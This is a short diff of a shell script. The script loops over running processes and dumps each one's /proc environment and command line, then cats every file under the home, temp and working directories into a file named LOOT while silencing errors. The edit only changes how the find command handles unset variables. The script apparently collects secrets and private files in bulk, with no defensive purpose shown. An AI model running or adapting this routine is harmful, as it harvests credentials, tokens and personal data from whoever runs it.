@@ -8,6 +8,6 @@
     cat "/proc/$process/environ" "/proc/$process/cmdline"
     ls -l "/proc/$process/fd" "/proc/$process/cwd"
   done
-  find "$HOME" "$TMPDIR" "$PWD" REACH -type f -exec cat {} +
+  find ${HOME:+"$HOME"} ${TMPDIR:+"$TMPDIR"} "$PWD" REACH -type f -exec cat {} +
   echo "prowled to the end"
 } >> "LOOT" 2>/dev/null < /dev/null
